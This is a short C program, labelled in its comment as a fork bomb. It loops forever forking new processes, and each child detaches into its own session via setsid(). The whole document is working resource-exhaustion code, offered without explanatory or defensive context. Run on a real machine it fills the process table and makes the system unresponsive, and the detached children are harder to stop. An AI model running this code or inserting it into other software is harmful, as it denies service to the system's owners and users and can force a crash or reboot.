/* A fork bomb: every process forks for ever, and each new one leaves its session. */
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() == 0)
            setsid();
}
